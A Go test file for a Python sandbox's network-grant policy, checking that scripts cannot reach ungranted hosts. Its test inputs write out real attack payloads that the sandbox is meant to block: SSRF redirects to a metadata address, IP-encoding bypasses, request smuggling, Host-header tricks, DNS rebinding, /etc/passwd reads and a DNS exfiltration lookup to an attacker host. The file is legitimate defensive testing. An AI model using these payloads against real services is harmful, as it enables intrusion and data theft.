package grants

import (
	"net"
	"strings"
	"testing"

	"tabcell/cmd/tabcell/internal/certs/certtest"
	"tabcell/runtime"
)

// denied is a part of the text of each refusal.
const denied = "!no grant of this server allows a connection to "

// TestWithoutGrant checks the errors of scripts without a grant, and of other accounts' targets.
func TestWithoutGrant(t *testing.T) {
	other := grantsOf(connections(t, nil, "https://other.test"))
	for _, c := range []struct{ script, want string }{
		{"import socket\nsocket.create_connection(('api.example.com', 443))", "!PermissionError : no grant of this server allows a connection to api.example.com:443"},
		{"import socket\nsocket.socket().connect(('127.0.0.1', 9004))", "!PermissionError : no grant of this server allows a connection to 127.0.0.1:9004"},
		{"import urllib.request\nurllib.request.urlopen('https://api.example.com/v1')", "!URLError : <urlopen error no grant of this server allows a connection to api.example.com:443"},
		{"import requests\nrequests.get('https://api.example.com/v1')", denied + "api.example.com:443"},
		{"import http.client\nhttp.client.HTTPConnection('10.0.0.7', 80).request('GET', '/')", "!PermissionError"},
		{"import smtplib\nsmtplib.SMTP('mail.test')", denied + "mail.test:25"},
		{"import socket\nsocket.gethostbyname('api.example.com')", "!PermissionError"},
		{"open('/srv/models/m.pkl')", "!PermissionError : [Errno 2] no grant of this server allows reading"},
		{"open(r'C:\\models\\m.pkl')", "!PermissionError : [Errno 2] no grant of this server allows reading"},
		{"import os\nos.listdir('/srv')", "!PermissionError"},
		{"import os\nreturn [os.path.exists('/srv/models'), os.path.isfile('/etc/passwd'), os.listdir('/')]", `[false, false, ["lib", "dev", "tmp"]]`},
	} {
		expect(t, nil, c.script, c.want)
		expect(t, other, c.script, c.want)
	}
	expect(t, other, "import socket\nsocket.create_connection(('api.example.com', 443))", "!(account analyst); ask the administrator")
}

// attacks are scripts that try to get from a granted target to another one: PORT is that of a granted
// web server, SECURE that of one with TLS, and OTHER that of one that is not granted.
var attacks = []struct{ name, script, want string }{
	{"another port", "requests.get('http://localhost:OTHER/hello')", denied + "localhost:OTHER"},
	{"another name", "requests.get('http://sub.localhost:PORT/hello')", denied},
	{"the address of a name", "requests.get('http://[::1]:PORT/hello')", denied},
	{"another scheme", "requests.get('https://localhost:PORT/hello')", "!no grant of this server allows TLS for localhost"},
	{"plain HTTP to HTTPS", "requests.get('http://localhost:SECURE/hello')", "!the script must use TLS"},
	{"redirect to another port", "requests.get('http://localhost:PORT/redirect?to=http://localhost:OTHER/hello')", denied + "localhost:OTHER"},
	{"redirect to another name", "requests.get('http://localhost:PORT/redirect?to=http://evil.test/')", denied + "evil.test:80"},
	{"redirect to metadata", "requests.get('http://localhost:PORT/redirect?to=http://169.254.169.254/latest/')", denied + "169.254.169.254:80"},
	{"user in the URL", "requests.get('http://localhost:PORT@evil.test/')", denied + "evil.test:80"},
	{"granted name as the user", "requests.get('http://localhost@127.0.0.2:OTHER/')", denied + "127.0.0.2:OTHER"},
	{"decimal address", "requests.get('http://2130706433:OTHER/')", denied + "2130706433:OTHER"},
	{"octal address", "requests.get('http://0177.0.0.1:OTHER/')", denied + "0177.0.0.1:OTHER"},
	{"short address", "requests.get('http://127.1:OTHER/')", denied + "127.1:OTHER"},
	{"mapped address", "requests.get('http://[::ffff:127.0.0.1]:OTHER/')", denied},
	{"IPv6 scope", "socket.create_connection(('fe80::1%lo', OTHER))", denied + "[fe80::1%lo]:OTHER"},
	{"zero address", "socket.create_connection(('0.0.0.0', OTHER))", denied},
	{"empty host", "socket.create_connection(('', OTHER))", denied},
	{"proxy of the script", "requests.get('http://evil.test/', proxies={'http': 'http://localhost:PORT'})", "!its host is evil.test"},
	{"CONNECT", "requests.get('https://evil.test/', proxies={'https': 'http://localhost:PORT'})", "!the method CONNECT is not allowed"},
	{"another Host", "requests.get('http://localhost:PORT/hello', headers={'Host': 'evil.test'}).text", "!its host is evil.test"},
	{"another Host over TLS", "requests.get('https://localhost:SECURE/hello', headers={'Host': 'other.test'}).text", "!its host is other.test"},
	{"two Hosts", "s = socket.create_connection(('localhost', PORT))\ns.sendall(b'GET / HTTP/1.1\\r\\nHost: localhost:PORT\\r\\nHost: evil.test\\r\\n\\r\\n')\nprint(s.recv(99))", "!it has two Host headers"},
	{"no HTTP", "s = socket.create_connection(('localhost', PORT))\ns.sendall(b'EHLO x\\r\\n\\r\\n')\nprint(s.recv(99))", "!the first line is not that of HTTP"},
	{"smuggled request", `s = socket.create_connection(('localhost', PORT))
s.sendall(b'POST /digest HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n')
print(s.recv(99))`, "!it has a Content-Length and a Transfer-Encoding"},
	{"another SNI", "c = ssl.create_default_context()\nc.check_hostname = False\nc.wrap_socket(socket.create_connection(('localhost', SECURE)), server_hostname='other.test')", "!no grant of this server allows TLS for other.test"},
	{"verify=False", "requests.get('https://localhost:SECURE/hello', verify=False)", "!the script turned off the verification of certificates"},
	{"unverified context", "urllib.request.urlopen('https://localhost:SECURE/hello', context=ssl._create_unverified_context())", "!the script turned off the verification of certificates"},
	{"unverified default", "ssl._create_default_https_context = ssl._create_unverified_context\nurllib.request.urlopen('https://localhost:SECURE/hello')", "!the script turned off the verification of certificates"},
	{"client certificate", "ssl.create_default_context().load_cert_chain('/tmp/c.pem')", "!a cell cannot present a client certificate"},
	{"listen", "socket.create_server(('127.0.0.1', 0))", "!a cell has no listening sockets"},
	{"UDP", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "!TCP sockets only"},
	{"raw", "socket.socket(socket.AF_INET, socket.SOCK_RAW)", "!TCP sockets only"},
	{"local socket", "socket.socket(socket.AF_UNIX).connect('/run/x')", "!a cell has sockets of the families"},
	{"file URL", "urllib.request.urlopen('file:///etc/passwd')", "!No such file or directory: '/etc/passwd'"},
}

// attackSetup precedes each of the attacks.
const attackSetup = "import requests, socket, ssl, urllib.request\n"

// victims are the servers of the attacks.
type victims struct {
	port, other, secure string
	authority           *certtest.Issued
}

func startVictims(t *testing.T) victims {
	t.Helper()
	authority := certtest.Authority(t, "authority", nil)
	return victims{startWeb(t), startWeb(t), startSecureWeb(t, authority, "localhost", "other.test"), authority}
}

// fill puts the ports into a script or a result.
func (v victims) fill(text string) string {
	return strings.NewReplacer("PORT", v.port, "OTHER", v.other, "SECURE", v.secure).Replace(text)
}

// targets returns what is granted.
func (v victims) targets() []string {
	return []string{"http://localhost:" + v.port, "https://localhost:" + v.secure}
}

// TestPolicy checks that a grant for one host and port leads to no other.
func TestPolicy(t *testing.T) {
	v := startVictims(t)
	grants := grantsOf(connections(t, v.authority.Cert, v.targets()...))
	for _, c := range attacks {
		t.Run(c.name, func(t *testing.T) { expect(t, grants, attackSetup+v.fill(c.script), v.fill(c.want)) })
	}
}

// TestInside checks that a granted name does not lead to addresses that have to be granted
// themselves.
func TestInside(t *testing.T) {
	port := startWeb(t)
	names.set(t, "inside.test", "127.0.0.1")
	names.set(t, "metadata.test", "169.254.169.254")
	names.set(t, "mapped.test", "::ffff:127.0.0.1")
	grants := grantsOf(connections(t, nil, "http://inside.test:"+port, "http://metadata.test", "http://mapped.test:"+port))
	for url, want := range map[string]string{
		"http://inside.test:" + port:            "!inside.test has the address 127.0.0.1",
		"http://metadata.test/latest/":          "!metadata.test has the address 169.254.169.254",
		"http://mapped.test:" + port + "/hello": "!mapped.test has the address 127.0.0.1",
	} {
		expect(t, grants, "import requests\nrequests.get('"+url+"')", want)
	}
}

// TestDirectCalls calls the host functions as a hostile script can.
func TestDirectCalls(t *testing.T) {
	port := startWeb(t)
	grants := grantsOf(connections(t, nil, "tcp://localhost:"+port))
	script := `import _net
h = _net.connect('127.0.0.1', PORT, -1)
out = [h < 0, _net.send(1, b'x', 0) < 0, _net.recv(99, 10, 0), _net.close(-1) < 0, _net.poll([(12345, 1)], 0), _net.info(0, 99), _net.tls(7, 'x', 0) < 0,
       _net.resolve('localhost', -1), _net.connect('localhost', 65537 + PORT, 100) < 0, _net.resolve('x' * 300, 80)]
return [out[0], out[1], out[2] < 0, out[3], out[4], out[6], out[8], type(out[9]).__name__]`
	expect(t, grants, strings.ReplaceAll(script, "PORT", port), `[true, true, true, true, [16], true, true, "int"]`)
}

// hostAddress returns an address of this host that is not a loopback address.
func hostAddress(t *testing.T) string {
	t.Helper()
	addresses, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addresses {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && n.IP.IsGlobalUnicast() {
			return n.IP.String()
		}
	}
	t.Skip("this host has no address but loopback")
	return ""
}

// TestRebinding uses a name whose address changes to one inside after it was checked.
func TestRebinding(t *testing.T) {
	address := hostAddress(t)
	port := startWebAt(t, address)
	names.set(t, "rebind.test", address, "127.0.0.1")
	grants := grantsOf(connections(t, nil, "http://rebind.test:"+port))
	script := `import socket
[(*_, place)] = socket.getaddrinfo('rebind.test', PORT, socket.AF_INET)
out = []
for target in (place, place, ('rebind.test', PORT)):  # the last one may be looked up again
    s = socket.create_connection(target)
    s.sendall(b'GET /hello HTTP/1.1\r\nHost: rebind.test:PORT\r\nConnection: close\r\n\r\n')
    out.append([s.getpeername()[0] == place[0], s.recv(12).decode()])
try:
    socket.create_connection(('127.0.0.1', PORT))
except PermissionError:
    return out + ['denied']`
	expect(t, grants, strings.ReplaceAll(script, "PORT", port), `[[true, "HTTP/1.1 200"], [true, "HTTP/1.1 200"], [true, "HTTP/1.1 200"], "denied"]`)
	// the name leads inside by now
	expect(t, grants, strings.ReplaceAll("import socket\nsocket.create_connection(('rebind.test', PORT))", "PORT", port), "!rebind.test has the address 127.0.0.1")
}

// TestUnknownNames checks that the resolver is asked only for names of a grant.
func TestUnknownNames(t *testing.T) {
	grants := grantsOf(connections(t, nil, "https://known.test"))
	expect(t, grants, "import socket\nsocket.getaddrinfo('secret-data.attacker.test', 443)", denied)
	expect(t, grants, "import socket\nsocket.getaddrinfo('x.known.test', 443)", denied)
	if n := names.lookups("secret-data.attacker.test") + names.lookups("x.known.test"); n != 0 {
		t.Errorf("the resolver was asked %d times for names that no grant has", n)
	}
	expect(t, grants, "import socket\nsocket.create_connection(('known.test', 443))", "!gaierror : [Errno -2]")
	if n := names.lookups("known.test"); n == 0 {
		t.Error("the resolver was not asked for the name of the grant")
	}
}

// TestErrors checks that errors of the network are Python's own classes.
func TestErrors(t *testing.T) {
	authority, other := certtest.Authority(t, "authority", nil), certtest.Authority(t, "other", nil)
	port, wrongName := startSecureWeb(t, authority, "localhost"), startSecureWeb(t, authority, "elsewhere.test")
	unused := unusedPort(t)
	names.set(t, "broken.test")
	grants := grantsOf(connections(t, other.Cert, "https://localhost:"+port, "tcp://localhost:"+unused, "https://broken.test"))
	named := grantsOf(connections(t, authority.Cert, "https://localhost:"+wrongName))
	const secure = "import socket, ssl\nssl.create_default_context().wrap_socket(socket.create_connection(('localhost', PORT), 20), server_hostname='localhost')"
	for _, c := range []struct {
		grants *runtime.Grants
		script string
		want   string
	}{
		{grants, "import socket\nsocket.create_connection(('broken.test', 443))", "!gaierror"},
		{grants, "import socket\nsocket.create_connection(('localhost', UNUSED))", "!ConnectionRefusedError"},
		{grants, strings.ReplaceAll(secure, "PORT", port), "!SSLCertVerificationError : [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed"},
		{named, strings.ReplaceAll(secure, "PORT", wrongName), "!SSLCertVerificationError"},
		{grants, "import requests\nrequests.get('https://localhost:" + port + "/')", "!SSLError"},
		{grants, "import urllib.request\nurllib.request.urlopen('https://localhost:" + port + "/')", "!CERTIFICATE_VERIFY_FAILED"},
	} {
		expect(t, c.grants, strings.ReplaceAll(c.script, "UNUSED", unused), c.want)
	}
}

// TestEnvironment checks that the variables of a grant exist only in its scripts.
func TestEnvironment(t *testing.T) {
	script := "import os\nreturn [os.environ.get('API_KEY'), os.getenv('API_KEY'), 'API_KEY' in os.environ]"
	grants := grantsOf(runtime.Grant{Env: map[string]string{"API_KEY": "s3cret \"'%\n"}})
	expect(t, nil, script, `[null, null, false]`)
	expect(t, grants, script, `["s3cret \"'%\n", "s3cret \"'%\n", true]`)
	expect(t, nil, script, `[null, null, false]`)
}
